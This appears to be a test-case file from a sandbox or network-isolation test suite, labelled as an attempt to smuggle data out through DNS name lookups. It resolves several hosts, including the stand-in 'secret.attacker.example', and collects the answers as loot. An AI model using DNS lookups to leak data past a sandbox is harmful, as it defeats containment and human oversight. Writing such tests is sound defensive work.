# /// attack
# tries = "Smuggle data out by looking up names."
# verdicts = ["accepted"]
# ///
import socket

def attempt_lookup(name):
    try:
        return socket.getaddrinfo(name, 53)
    except OSError:
        return None

def attack(root, worker):
    for name in ("localhost", "example.org", "1.2.3.4", "secret.attacker.example"):
        answers = [answer[4][0] for answer in (attempt_lookup(name) or [])]
        LOOT.extend(f"{name}: {answer}" for answer in answers if answer not in ("1.2.3.4", "127.0.0.1", "::1"))
    attempt("gethostbyname", socket.gethostbyname, "example.org")
    return LOOT
